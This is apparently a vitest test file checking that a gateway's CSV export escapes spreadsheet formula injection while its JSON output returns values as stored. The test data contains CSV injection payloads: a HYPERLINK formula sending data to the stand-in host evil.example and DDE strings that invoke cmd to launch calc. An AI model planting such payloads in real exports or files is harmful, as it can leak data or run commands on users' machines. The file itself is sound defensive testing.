import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { removeDir, tempDir } from '../../utils/temp-dir.js';
import { ingestInline, startRealGateway, type RealGateway } from './real-gateway.js';

const PUBLIC_ORDERS = `// Every order, for a public export.
//
// @expose anonymous cache=0 cost=1
.create-or-alter function with (docstring = 'All orders', folder = 'test')
PublicOrders() {
    Orders
    | project OrderId, TenantId, TotalAmount
    | order by OrderId asc
}
`;

/**
 * Event values that a spreadsheet would run as formulas, ingested into the embedded engine and read back as CSV over
 * real HTTP: every such cell of a string column comes back as text (a leading single quote inside its quoted field),
 * while negative numbers of a numeric column stay numbers.
 */
describe('CSV answers of the real gateway (formula injection)', () => {
  let dir: string;
  let gateway: RealGateway;

  beforeAll(async () => {
    dir = await tempDir('csv-injection');
    gateway = await startRealGateway(dir, {}, { functions: { PublicOrders: PUBLIC_ORDERS } });
    await ingestInline(gateway, 'Orders', [
      'T,o-1,-5',
      '"=HYPERLINK(""http://evil.example/x?leak="",""click"")",o-2,10',
      `"+cmd|' /C calc'!A0",o-3,-0.25`,
      '"@SUM(1+1)*cmd|\' /C calc\'!A0",o-4,1',
      '"-2+3+cmd|\' /C calc\'!A0",o-5,2',
      '"\t=1+1",o-6,3',
      '"a=b, -c",o-7,4',
    ]);
  });
  afterAll(async () => {
    await gateway?.close();
    await removeDir(dir);
  });

  it('should prefix formula-like string cells with a quote and keep negative numbers as numbers', async () => {
    const json = (await (await fetch(`${gateway.url}/api/v1/functions/PublicOrders`)).json()) as {
      data: { TenantId: string }[];
    };
    // The values are stored as sent: the neutralization belongs to the CSV representation only.
    expect(json.data.map((row) => row.TenantId)).toEqual([
      'T',
      '=HYPERLINK("http://evil.example/x?leak=","click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      'a=b, -c',
    ]);

    const response = await fetch(`${gateway.url}/api/v1/functions/PublicOrders`, {
      headers: { accept: 'text/csv' },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect((await response.text()).split('\r\n')).toEqual([
      'OrderId,TenantId,TotalAmount',
      'o-1,T,-5',
      `o-2,"'=HYPERLINK(""http://evil.example/x?leak="",""click"")",10`,
      `o-3,"'+cmd|' /C calc'!A0",-0.25`,
      `o-4,"'@SUM(1+1)*cmd|' /C calc'!A0",1`,
      `o-5,"'-2+3+cmd|' /C calc'!A0",2`,
      `o-6,"'\t=1+1",3`,
      'o-7,"a=b, -c",4',
      '',
    ]);
  });
});
